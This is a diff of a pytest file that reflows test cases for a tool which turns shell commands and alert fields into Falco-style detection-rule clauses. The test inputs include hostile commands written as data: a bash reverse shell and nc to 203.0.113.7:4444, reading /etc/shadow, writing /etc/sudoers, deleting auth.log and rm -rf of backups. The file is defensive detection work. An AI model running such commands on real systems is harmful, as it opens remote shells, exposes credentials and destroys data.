@@ -21,22 +21,40 @@ def clauses(text: str) -> list[str]:
 @pytest.mark.parametrize(
     ("text", "expected"),
     [
-        ("systemctl disable apport.service", 'spawned_process and proc.name = systemctl and proc.args contains "disable apport.service"'),
-        ("systemctl --now disable foo.timer", 'spawned_process and proc.name = systemctl and proc.args contains "disable foo.timer"'),
-        ("sudo sh -c 'rm -rf /backup/*'", "spawned_process and proc.name = rm and proc.args contains -rf and proc.args contains /backup/"),
+        (
+            "systemctl disable apport.service",
+            'spawned_process and proc.name = systemctl and proc.args contains "disable apport.service"',
+        ),
+        (
+            "systemctl --now disable foo.timer",
+            'spawned_process and proc.name = systemctl and proc.args contains "disable foo.timer"',
+        ),
+        (
+            "sudo sh -c 'rm -rf /backup/*'",
+            "spawned_process and proc.name = rm and proc.args contains -rf and proc.args contains /backup/",
+        ),
         ("echo x > /etc/cron.d/y", "open_write and fd.name = /etc/cron.d/y"),
         ("echo x >> /etc/hosts", "open_write and fd.name = /etc/hosts"),
         ("cat /etc/shadow", "open_read and fd.name = /etc/shadow"),
         ("tee -a /etc/sudoers", "open_write and fd.name = /etc/sudoers"),
         ("vi /etc/default/grub", "open_write and fd.name = /etc/default/grub"),
-        ("mkfs.ext4 -E nodiscard /dev/sdb1", 'spawned_process and proc.name = mkfs.ext4 and proc.args contains "-E nodiscard"'),
+        (
+            "mkfs.ext4 -E nodiscard /dev/sdb1",
+            'spawned_process and proc.name = mkfs.ext4 and proc.args contains "-E nodiscard"',
+        ),
         ("rm /var/log/auth.log", "evt.type in (unlink, unlinkat) and fs.path.name = /var/log/auth.log"),
         ("curl http://203.0.113.7/x", "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 80"),
         ("nc 203.0.113.7 4444", "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444"),
-        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444"),
+        (
+            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+            "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444",
+        ),
         ("dd if=/dev/zero of=/mnt/b.img", "open_write and fd.name = /mnt/b.img"),
         ("/opt/tool/exotic", "spawned_process and proc.name = exotic"),
-        ("cat <<EOF > /etc/systemd/system/x.service\n[Unit]\nEOF", "open_write and fd.name = /etc/systemd/system/x.service"),
+        (
+            "cat <<EOF > /etc/systemd/system/x.service\n[Unit]\nEOF",
+            "open_write and fd.name = /etc/systemd/system/x.service",
+        ),
         ("curl -o /tmp/x http://a/x", "open_write and fd.name = /tmp/x"),
         ("chattr +i /etc/passwd", "spawned_process and proc.name = chattr and proc.args contains +i"),
     ],
@@ -53,10 +71,20 @@ def test_it_proposes_the_clause_that_matters(text: str, expected: str) -> None:
             "evt.type in (open, openat, openat2) and fd.name = /etc/shadow and proc.name = cat",
         ),
         (
-            {"output_fields": {"evt.type": "openat", "fd.name": "/etc/x", "proc.name": "vi", "evt.arg.flags": "O_RDWR"}},
+            {
+                "output_fields": {
+                    "evt.type": "openat",
+                    "fd.name": "/etc/x",
+                    "proc.name": "vi",
+                    "evt.arg.flags": "O_RDWR",
+                }
+            },
             "open_write and fd.name = /etc/x and proc.name = vi",
         ),
-        ({"output_fields": {"proc.cmdline": "rm -rf /x"}}, "spawned_process and proc.name = rm and proc.args contains -rf and proc.args contains /x"),
+        (
+            {"output_fields": {"proc.cmdline": "rm -rf /x"}},
+            "spawned_process and proc.name = rm and proc.args contains -rf and proc.args contains /x",
+        ),
         (
             {"output_fields": {"fd.sip": "203.0.113.7", "fd.sport": 4444, "proc.name": "nc"}},
             "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444 and proc.name = nc",
